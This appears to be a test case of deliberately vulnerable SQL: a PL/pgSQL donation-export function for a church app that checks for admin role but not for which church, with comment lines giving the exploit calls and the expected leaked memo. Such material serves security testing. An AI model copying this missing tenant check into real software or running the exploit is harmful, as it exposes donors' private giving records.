-- The export asks whether the caller is an administrator, but not of which church.
-- about: export_donations, donations, people
-- as: hf_parish_app
-- exploit: SET app.user_id = 'aaaaaaaa-0000-4000-8000-00000000000a';
-- exploit: SELECT * FROM church.export_donations('bbbbbbbb-0000-4000-8000-000000000002', 2026);
-- shows: Road-secret gift
CREATE FUNCTION church.export_donations(p_church uuid, p_year int)
RETURNS TABLE (person text, amount numeric, given_on date, memo text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = church, pg_temp AS $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM church.memberships m WHERE m.user_id = church.me() AND m.role = 'admin') THEN
    RAISE EXCEPTION 'only administrators export donations';
  END IF;
  RETURN QUERY SELECT p.full_name, d.amount, d.given_on, d.memo
    FROM church.donations d JOIN church.people p ON p.church_id = d.church_id AND p.id = d.person_id
    WHERE d.church_id = p_church AND extract(year FROM d.given_on) = p_year;
END $$;
